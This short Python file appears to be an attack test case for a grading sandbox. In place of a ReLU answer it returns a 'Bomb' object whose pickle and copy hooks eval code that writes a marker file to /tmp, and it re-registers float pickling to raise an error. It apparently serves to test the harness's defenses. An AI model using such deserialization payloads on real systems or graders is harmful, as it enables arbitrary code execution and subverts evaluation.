# /// attack
# tries = "returns objects that run a command wherever they are unpickled or copied"
# question = "relu_forward"
# variants = [
#     "Bomb()",
#     "np.array([Bomb()], object)",
# ]
# modes = ["batch"]
# ///
# %%
import copyreg
import pickle

import numpy as np


class Bomb:
    def __reduce__(self):
        return (eval, ("open('/tmp/@PWNED@', 'w').write('x')",))

    __copy__ = __deepcopy__ = __reduce__
    __reduce_ex__ = __getstate__ = lambda self, *args: self.__reduce__()


# %% question="relu_forward"
def relu_forward(x):
    copyreg.pickle(float, lambda number: (eval, ("1 / 0",)))
    return VARIANT
